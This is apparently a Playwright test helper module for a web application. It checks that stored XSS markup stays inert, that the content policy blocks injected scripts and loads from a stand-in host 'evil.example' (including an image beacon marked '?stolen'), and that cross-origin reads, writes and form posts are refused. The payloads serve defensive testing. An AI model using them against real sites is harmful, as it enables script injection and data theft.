// Attacks on a site's pages, from within and from other origins, and checks of their effect.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type BrowserContext, type Page } from '@playwright/test';

declare global {
  interface Window {
    /** set by any markup or script that should not have run */
    hit?: string;
    violations?: string[];
  }
}

/** Markup as an attacker would store it: every line sets `hit` if a page interprets it as more than text. */
export const MARKUP = [
  '<img src=x onerror="window.hit=1">',
  '<script>window.hit=2</script>',
  '"><svg onload=window.hit=3>',
  '<iframe srcdoc="<script>top.hit=4</script>"></iframe>',
  '<a href="javascript:window.hit=5">here</a>',
  '{{constructor.constructor("window.hit=6")()}}',
].join(' ');

/** Records the content policy's violations from now on, page by page. */
export async function watchPolicy(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      window.violations?.push(`${effectiveDirective} ${blockedURI} ${sample}`),
    );
  });
}

export const violations = (page: Page): Promise<string[]> => page.evaluate(() => window.violations ?? ['not watched']);

/** The page shows the markup as text: nothing ran, no element was created, and the text reads as it was written. */
export async function expectInert(page: Page, path: string): Promise<void> {
  await expect(page.getByText(MARKUP.slice(0, 34)).first(), path).toBeVisible();
  const made = await page.evaluate(() => ({
    hit: window.hit ?? null,
    elements: document.querySelectorAll('[onerror], [onload], img[src="x"], iframe, main script, a[href^="javascript:"]').length,
  }));
  expect(made, path).toEqual({ hit: null, elements: 0 });
}

/** Tries to run and to load what the policy forbids, as an injected script would; returns which attempts succeeded. */
export function breakOut(page: Page): Promise<Record<string, boolean>> {
  return page.evaluate(async () => {
    const came: Record<string, boolean> = {};
    const tries: Record<string, () => unknown> = {
      'an inline script': () => {
        const script = document.createElement('script');
        script.textContent = 'window.hit = "inline"';
        document.body.append(script);
      },
      'markup with a handler': () => {
        document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.hit = 1">');
      },
      'a handler in an attribute': () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.hit = "handler"');
        document.body.append(button);
        button.click();
        button.remove();
      },
      'text as code': () => void setTimeout('window.hit = "timeout"', 0),
      'another host’s script': () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/script.js';
        document.body.append(script);
      },
      'a javascript address': () => {
        const link = document.createElement('a');
        link.href = 'javascript:window.hit = "address"';
        document.body.append(link);
        link.click();
        link.remove();
      },
      'an inline style': () => {
        const style = document.createElement('style');
        style.textContent = 'body { --hit: yes }';
        document.head.append(style);
        const hit = getComputedStyle(document.body).getPropertyValue('--hit');
        style.remove();
        if (hit !== '') window.hit = 'style';
      },
    };
    for (const [what, attempt] of Object.entries(tries)) {
      delete window.hit;
      try {
        attempt();
      } catch {
        // refused by the policy
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
      came[what] = window.hit !== undefined;
    }
    delete window.hit;
    came['a frame of another host'] = await new Promise((resolve) => {
      const frame = document.createElement('iframe');
      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
      frame.addEventListener('load', () => setTimeout(() => resolve(true), 500));
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    });
    came['a word to another host'] = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
      () => true,
      () => false,
    );
    came['a word by a picture'] = await new Promise((resolve) => {
      const picture = new Image();
      picture.addEventListener('load', () => resolve(true));
      picture.addEventListener('error', () => resolve(false));
      picture.src = 'https://evil.example/picture.svg?stolen';
    });
    return came;
  });
}

/**
 * A page of another origin in this context, from a server of its own: a page created by route interception has no real address, and a
 * browser already keeps such pages from loopback. `host`: 127.0.0.1 is the site's own host with another port, localhost is another site.
 */
export async function openElsewhere(
  context: BrowserContext,
  host: '127.0.0.1' | 'localhost',
  html: string,
): Promise<{ page: Page; close: () => void }> {
  const server = createServer((_request, response) => response.setHeader('content-type', 'text/html').end(html));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const page = await context.newPage();
  await page.goto(`http://${host}:${(server.address() as AddressInfo).port}/`);
  return { page, close: () => (server.closeAllConnections(), server.close()) };
}

/** Sends everything that a page of another origin can send with this browser's cookie; returns the results that the page sees. */
export function attack(elsewhere: Page, site: string, write: { path: string; body: unknown }): Promise<Record<string, string>> {
  return elsewhere.evaluate(
    async ([here, { path, body }]) => {
      const heard: Record<string, string> = {};
      const text = (asked: Promise<Response>) =>
        asked.then(
          (response) => response.text().then((said) => said || response.type),
          () => 'refused',
        );
      heard['a read'] = await text(fetch(`${here}/api/session`, { credentials: 'include' }));
      heard['a read that cannot be read'] = await text(fetch(`${here}/api/session`, { credentials: 'include', mode: 'no-cors' }));
      const json = { method: 'POST', credentials: 'include', body: JSON.stringify(body) } as const;
      heard['a change'] = await text(
        fetch(here + path, { ...json, headers: { 'content-type': 'application/json', 'x-claret-csrf': '1' } }),
      );
      heard['a change as plain text'] = await text(
        fetch(here + path, { ...json, mode: 'no-cors', headers: { 'content-type': 'text/plain' } }),
      );
      heard['logging out'] = await text(fetch(`${here}/api/logout`, { ...json, mode: 'no-cors' }));
      heard['a live stream'] = await new Promise((resolve) => {
        const stream = new EventSource(`${here}/api/live`, { withCredentials: true });
        stream.addEventListener('hello', ({ data }) => resolve(String(data)));
        stream.addEventListener('error', () => (stream.close(), resolve('refused')));
      });
      heard['a script'] = await new Promise((resolve) => {
        const script = document.createElement('script');
        script.addEventListener('load', () => resolve('loaded'));
        script.addEventListener('error', () => resolve('refused'));
        script.src = `${here}/api/session`;
        document.head.append(script);
      });
      heard['a window'] = await new Promise((resolve) => {
        const opened = window.open(here);
        const until = Date.now() + 60_000;
        // To its opener the window looks closed once the page has loaded (Cross-Origin-Opener-Policy).
        const look = () =>
          opened === null || opened.closed ? resolve('refused') : Date.now() > until ? resolve('held') : setTimeout(look, 20);
        look();
      });
      return heard;
    },
    [site, write] as const,
  );
}

/** Sends a form of another origin, as browsers do. Waits for the resulting page. */
export async function sendForm(elsewhere: Page, action: string): Promise<void> {
  await elsewhere.evaluate((address) => {
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: address, enctype: 'text/plain' });
    document.body.append(form);
    form.submit();
  }, action);
  await elsewhere.waitForURL((url) => url.href.startsWith(action));
}
